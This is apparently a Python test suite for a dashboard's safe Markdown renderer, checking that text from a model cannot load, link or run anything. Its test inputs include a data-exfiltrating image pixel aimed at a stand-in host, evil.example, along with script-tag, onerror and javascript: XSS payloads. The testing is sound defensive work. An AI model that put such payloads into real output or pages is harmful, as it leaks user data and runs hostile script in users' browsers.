"""Text from a model: rendered as Markdown, but nothing in it is fetched, followed or run."""

import ast
import re
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from ui.safe_markdown import escaped, harmless

# What a browser would make of it, read more generously than the dashboard does.
READER = MarkdownIt("commonmark", {"html": True, "linkify": False}).enable("table")
ADDRESS = re.compile(r"https?://|www\.", re.IGNORECASE)


def live_parts(markdown: str) -> list[str]:
    """Every construct that would load, link or run; addresses in plain text count too."""
    found = []
    for block in READER.parse(markdown):
        if block.type == "html_block":
            found.append(block.content)
        for token in block.children or ():
            if token.type in ("image", "link_open", "html_inline"):
                found.append(f"{token.type} {token.content}")
            elif token.type == "text" and ADDRESS.search(token.content):
                found.append(token.content)
    return found


HOSTILE = [
    "![pixel](http://evil.example/?d=secret)",
    "![a][ref]\n\n[ref]: http://evil.example/x.png",
    "[click](http://evil.example) and [click][r]\n\n[r]: http://evil.example",
    "<http://evil.example/auto> and http://evil.example/bare, www.evil.example",
    "<script>alert(1)</script>\n\n<img src=x onerror=alert(1)>",
    "text <b onclick=alert(1)>bold</b> <!-- comment -->",
    "<div>\n\n![x](http://evil.example)\n\n</div>",
    "`open ![x](http://evil.example)\n\n` close",
    "\\![x](http://evil.example) \\\\![y](http://evil.example)",
    "| a | b |\n|--|--|\n| ![x](http://evil.example) | `a\\|b` <i>x</i> |",
    "- item ![x](http://evil.example)\n  > quote [y](http://evil.example)",
    "# head ![x](http://evil.example)",
    "[![x](http://evil.example/i)](http://evil.example/l)",
    "![x](data:image/svg+xml;base64,AAAA) [j](javascript:alert(1))",
    "[a](/relative) ![b](relative.png)",
    "&lt;script&gt; &#60;img src=x&#62;",
    "```html\n<script>alert(1)</script>\n```",
    "~~~\n```\n![x](http://evil.example)\n~~~",
    "mail evil@evil.example or mailto:evil@evil.example",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_in_it_is_live(text: str) -> None:
    assert live_parts(harmless(text)) == []


@settings(max_examples=100, deadline=None)
@given(
    st.lists(
        st.sampled_from([*HOSTILE, "`", "``", "\n", "\\", "[", "](", "<", "!", "|", "> "]),
        max_size=7,
    )
)
def test_no_mixture_of_it_is_live(parts: list[str]) -> None:
    assert live_parts(harmless("".join(parts))) == []


def test_addresses_stay_readable() -> None:
    text = harmless("See [the source](https://example.org/a) or https://example.org/b.")
    assert "the source (`https://example.org/a`)" in text
    assert "`https://example.org/b`" in text
    assert harmless("<https://example.org>") == "`https://example.org`"
    assert harmless("![A chart](chart.png)") == "Image: A chart (`chart.png`)"


@pytest.mark.parametrize(
    "text",
    [
        "Plain words, **strong**, *soft*, ~~gone~~ and `code`",
        "1. one\n2. two\n   - inner\n   - more\n3. three",
        "> a quote\n>\n> of two paragraphs",
        "```python\nx = a[i](b)  # <tag> ![x](y)\n```",
        "| Region | Revenue |\n| :-- | --: |\n| North | 42 |",
        "---",
    ],
)
def test_what_is_harmless_already_keeps_its_shape(text: str) -> None:
    def shape(markdown: str) -> list[tuple[str, str]]:
        reader = MarkdownIt("commonmark").enable(["table", "strikethrough"])
        return [
            (token.type, token.content if token.type in ("fence", "code_inline") else "")
            for block in reader.parse(markdown)
            for token in (block, *(block.children or ()))
        ]

    assert shape(harmless(text)) == shape(text)


def test_headings_fit_under_the_page_s_own() -> None:
    assert harmless("# One\n\n###### Six").split("\n\n") == ["## One", "###### Six"]


def test_money_and_directives_are_only_text() -> None:
    assert harmless("$5 to $6 and :red[x] :material/bolt:") == (
        r"\$5 to \$6 and \:red\[x\] \:material/bolt\:"
    )


def test_a_diagram_is_shown_as_source() -> None:
    assert harmless("```mermaid\ngraph TD\n```") == "```\ngraph TD\n```"


def test_what_is_too_long_says_that_it_is_cut() -> None:
    assert "cut here" in harmless("word " * 60_000)


def test_escaped_text_reads_as_it_was_written() -> None:
    text = "a_b *c* [d](e) <f> `g` #h | $i : j@k \\l"
    rendered = READER.render(escaped(text).replace("`g`", "g"))
    assert "<em>" not in rendered
    assert "<a" not in rendered


def test_no_page_renders_html() -> None:
    """House rule: nothing in the dashboard may hand text to the browser as HTML."""
    for path in sorted(Path("ui").rglob("*.py")):
        for node in ast.walk(ast.parse(path.read_text("utf-8"))):
            if isinstance(node, ast.keyword):
                assert node.arg not in ("unsafe_allow_html", "unsafe_allow_javascript"), path
            if isinstance(node, ast.Attribute) and node.attr in ("html", "iframe"):
                raise AssertionError(f"{path}:{node.lineno} uses {node.attr}")
    script = Path("ui/graph/graph.js").read_text("utf-8")
    assert not re.search(r"innerHTML|outerHTML|insertAdjacentHTML|document\.write", script)


def test_nothing_of_the_dashboard_is_fetched_from_elsewhere() -> None:
    for path in [*Path("ui").rglob("*.[jcs]s*"), *Path("ui").rglob("*.svg")]:
        text = path.read_text("utf-8").replace("http://www.w3.org/2000/svg", "")
        assert not re.search(r"https?://|@import|url\((?!#)", text), path
